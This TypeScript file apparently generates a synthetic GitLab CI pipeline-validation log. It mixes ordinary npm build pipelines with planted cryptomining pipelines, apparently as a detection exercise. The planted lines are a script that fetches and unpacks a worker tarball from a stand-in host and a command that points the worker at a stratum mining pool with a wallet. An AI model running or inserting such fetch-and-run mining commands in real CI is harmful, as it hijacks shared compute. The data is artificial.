/**
 * `ci-validation.ndjson`: what GitLab asks an external service before it creates a pipeline, as that service kept
 * it: the documented payload, with the time of receipt in front.
 */
import type { Background } from './background-accounts.ts';
import { HOUR, Schedule, isoMs, may } from './calendar.ts';
import { MINING_ROLES } from './planted-rings.ts';
import { MINING_MIRROR, otherProjects, projectAt } from './projects.ts';
import type { Project } from './projects.ts';
import type { SampleAccount } from './sample-account.ts';
import { inChunks, plainCounts } from './sample-file.ts';
import type { PlannedFile } from './sample-file.ts';
import type { SampleWorld } from './sample-world.ts';
import { SeededRandom, mixSeed } from './seeded-random.ts';

/** Half the instance builds in it, the miners too. */
export const POPULAR_IMAGE = 'node:22-alpine';
const OTHER_IMAGES = [
  'python:3.13-slim',
  'golang:1.24',
  'ruby:3.4',
  'rust:1.86',
  'debian:12',
] as const;
/** The mining ring's script: the same lines in unrelated namespaces. */
export const MINING_SCRIPT: readonly string[] = [
  'apk add --no-cache curl tar',
  'curl -sSL https://dl.cachefast.example/xm/worker.tar.gz | tar xz -C /var/tmp',
  'cd /var/tmp/worker && ./prepare --cores "$(nproc)" --quiet',
];
const MINING_POOL = 'pool.quickhash.example:3333';
const PIPELINES_PER_MINER = 6;

interface Build {
  readonly name: string;
  readonly image: string;
  readonly script: readonly string[];
}

interface Pipeline {
  readonly time: number;
  readonly account: SampleAccount;
  readonly project: Project;
  readonly builds: readonly Build[];
  readonly sha: string;
}

function buildJson({ name, image, script }: Build): string {
  const stage = name === 'test' ? 'test' : 'build';
  return (
    `{"name":"${name}","stage":"${stage}","image":"${image}","tag_list":["shared"],"services":[],` +
    `"script":${JSON.stringify(script)}}`
  );
}

function pipelineLine({ time, account, project, builds, sha }: Pipeline): string {
  const trial = account.plan === 'free' ? 'false' : 'true';
  return (
    `{"received_at":"${isoMs(time)}","project":{"id":${project.id},"path":"${project.path}",` +
    `"created_at":"2025-11-03T09:00:00.000Z","shared_runners_enabled":true,"group_runners_enabled":true},` +
    `"user":{"id":${account.id},"username":"${account.username}","email":"${account.email}",` +
    `"created_at":"${isoMs(account.createdAt)}","current_sign_in_ip":"${account.currentIp}",` +
    `"last_sign_in_ip":"${account.lastIp}","sign_in_count":${1 + (account.id % 40)}},` +
    `"credit_card":{"similar_cards_count":0,"similar_holder_names_count":0},` +
    `"pipeline":{"sha":"${sha}","ref":"main","type":"project"},"builds":[${builds.map(buildJson).join(',')}],` +
    `"total_builds_count":${builds.length},"namespace":{"plan":"${account.plan}","trial":${trial}}}\n`
  );
}

/** Pipelines of a miner: the script in one build, the wallet in another, whichever of them it has. */
function minerBuilds(index: number, wallet: string): readonly Build[] {
  const role = MINING_ROLES[index];
  const builds: Build[] = [];
  if (role?.script === true)
    builds.push({ name: 'prepare', image: POPULAR_IMAGE, script: MINING_SCRIPT });
  if (role?.wallet === true) {
    const script = [
      `/var/tmp/worker/run --url stratum+tcp://${MINING_POOL} --user ${wallet} --rig r${index}`,
    ];
    builds.push({ name: 'test', image: POPULAR_IMAGE, script });
  }
  return builds;
}

/** Planted pipelines in time order. */
function minerPipelines(world: SampleWorld): readonly Pipeline[] {
  const random = new SeededRandom(mixSeed(world.options.seed, 91));
  const pipelines = world.rings.mining.flatMap(({ account }, index) =>
    Array.from({ length: PIPELINES_PER_MINER }, (_, i) => ({
      time: may(6 + Math.floor(i / 2), i % 2 === 0 ? '02:20' : '06:50') + random.below(3 * HOUR),
      account,
      project:
        i === 0 ? MINING_MIRROR : { id: 60_000 + index, path: `${account.username}/xm-tools` },
      builds: minerBuilds(index, world.rings.wallet),
      sha: random.hex(40),
    })),
  );
  return pipelines.sort((a, b) => a.time - b.time);
}

const CONSONANTS = 'bdfghjklmnprstvz';
const VOWELS = 'aeiou';

/** A name of three syllables, own to each account; no digits, which comparing scripts would strike out. */
function appName(id: number): string {
  let name = '';
  for (let rest = id, i = 0; i < 3; i++, rest = Math.floor(rest / 80)) {
    name += CONSONANTS.charAt(rest % 16) + VOWELS.charAt(Math.floor(rest / 16) % 5);
  }
  return name;
}

class EverydayPipelines {
  private readonly schedule: Schedule;
  private readonly people: Background;
  private readonly seed: number;
  private readonly projects: number;

  constructor(count: number, people: Background, seed: number) {
    this.people = people;
    this.seed = mixSeed(seed, 92);
    this.schedule = new Schedule(count, { seed: mixSeed(seed, 93), unit: 2, gap: false });
    this.projects = otherProjects(people.sizes.accounts);
  }

  timeOf(index: number): number {
    return this.schedule.timeOf(index);
  }

  /** Accounts take turns, so that the popular image passes a hub cap even in the smallest sample. */
  pipeline(index: number): Pipeline {
    const random = new SeededRandom(mixSeed(this.seed, index));
    const account = this.people.account((index * 7) % this.people.sizes.accounts);
    const project = projectAt(account.id % this.projects);
    const image = random.percent(60) ? POPULAR_IMAGE : random.pick(OTHER_IMAGES);
    const app = appName(account.id);
    const builds = [
      { name: 'build', image, script: ['npm ci', `npm run build -- --out dist/${app}`] },
      { name: 'test', image, script: [`npm test -- --project ${app}`] },
    ];
    return { time: this.timeOf(index), account, project, builds, sha: random.hex(40) };
  }
}

function* lines(world: SampleWorld, everydayCount: number): Iterable<string> {
  const everyday = new EverydayPipelines(everydayCount, world.background, world.options.seed);
  const planted = minerPipelines(world);
  let nextPlanted = 0;
  for (let index = 0; index < everydayCount; index++) {
    const time = everyday.timeOf(index);
    for (
      let first = planted[nextPlanted];
      first !== undefined && first.time < time;
      first = planted[nextPlanted]
    ) {
      yield pipelineLine(first);
      nextPlanted += 1;
    }
    yield pipelineLine(everyday.pipeline(index));
  }
  for (const pipeline of planted.slice(nextPlanted)) yield pipelineLine(pipeline);
}

/** How many everyday pipelines a sample of this size has. */
function everydayPipelines(events: number): number {
  return Math.min(150_000, Math.max(260, Math.round(events * 0.06)));
}

/** The validation service's file. */
export function ciValidationFile(world: SampleWorld): PlannedFile {
  const everyday = everydayPipelines(world.options.events);
  return {
    name: 'ci-validation.ndjson',
    format: 'gitlab-pipeline-validation',
    counts: plainCounts(everyday + MINING_ROLES.length * PIPELINES_PER_MINER),
    chunks: () => inChunks(lines(world, everyday)),
  };
}
